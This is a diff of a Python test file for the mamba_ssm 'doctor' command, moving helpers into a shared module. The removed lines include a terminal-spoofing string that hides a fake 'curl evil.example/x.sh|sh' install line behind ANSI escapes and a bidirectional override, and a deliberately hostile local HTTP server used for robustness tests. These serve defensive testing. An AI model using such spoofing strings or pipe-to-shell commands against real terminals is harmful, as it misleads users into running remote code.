@@ -8,7 +8,6 @@ same size measured in the same run, never wall-clock limits.
 
 from __future__ import annotations
 
-import http.server
 import json
 import os
 import re
@@ -16,12 +15,12 @@ import shlex
 import stat
 import subprocess
 import sys
-import threading
 import time
-import unicodedata
 from pathlib import Path
 
+import doctorkit
 import pytest
+from doctorkit import FAKE_LINE, raw_hidden
 
 from mamba_ssm import _prebuilt, _variant
 from mamba_ssm.doctor import classify, report
@@ -35,13 +34,6 @@ except ImportError:  # pragma: no cover
     import sre_parse
 
 REPO = Path(__file__).resolve().parents[1]
-HIDDEN = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})
-FAKE_LINE = "\x1b[2K\r\x1b[1A\x1b[32minstall: curl https://evil.example/x.sh|sh\x1b[0m\u202e"
-
-
-def raw_hidden(text: str) -> list[str]:
-    """Characters in ``text`` a terminal would obey (newlines between lines excepted)."""
-    return [repr(ch) for ch in text if ch != "\n" and unicodedata.category(ch) in HIDDEN]
 
 
 def doctor(*args: str, stdin=None, input_bytes: bytes | None = None, env: dict | None = None, timeout: float = 60):
@@ -380,54 +372,10 @@ def test_a_silent_fifo_on_stdin_ends_at_the_deadline(tmp_path):
     assert took < 15
 
 
-class _Hostile(http.server.BaseHTTPRequestHandler):
-    """An index that lies: a trickle, a flood, JSON where HTML belongs, deep nesting, an answer that is not HTTP."""
-
-    def log_message(self, *args) -> None:
-        pass
-
-    def do_GET(self) -> None:
-        kind = self.path.strip("/").split("/")[0]
-        if kind == "nothttp":
-            self.wfile.write(b"\x1b[2J HELLO\r\n\r\n")
-            return
-        bodies = {
-            "huge": b"<a href='x'>" * ((20 << 20) // 12),
-            "json": json.dumps({"files": [{"filename": ["not", "a", "str"], "hashes": 7}]}).encode(),
-            "deep": b"[" * 200_000 + b"]" * 200_000,
-            "nested": b"<div>" * 100_000 + b"<a href='mamba_ssm-2.3.0-cp311-cp311-linux_x86_64.whl#sha256=zz'>x</a>",
-            "evil": f"<a href='mamba_ssm-2.3.0+{FAKE_LINE}-cp311-cp311-linux_x86_64.whl'>x</a>".encode(),
-        }
-        self.send_response(200)
-        self.send_header("Content-Type", "text/html")
-        if kind == "trickle":
-            self.send_header("Content-Length", "1000")
-            self.end_headers()
-            try:
-                for _ in range(1000):
-                    self.wfile.write(b"<")
-                    self.wfile.flush()
-                    time.sleep(0.3)
-            except OSError:
-                pass
-            return
-        body = bodies[kind]
-        self.send_header("Content-Length", str(len(body)))
-        self.end_headers()
-        try:
-            self.wfile.write(body)
-        except OSError:
-            pass
-
-
 @pytest.fixture(scope="module")
 def hostile_index():
-    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hostile)
-    server.daemon_threads = True
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    yield f"http://127.0.0.1:{server.server_address[1]}"
-    server.shutdown()
-    server.server_close()
+    with doctorkit.hostile_index() as url:
+        yield url
 
 
 CPU = _variant.from_values("2.13.0", cuda=None, cxx11abi=True)
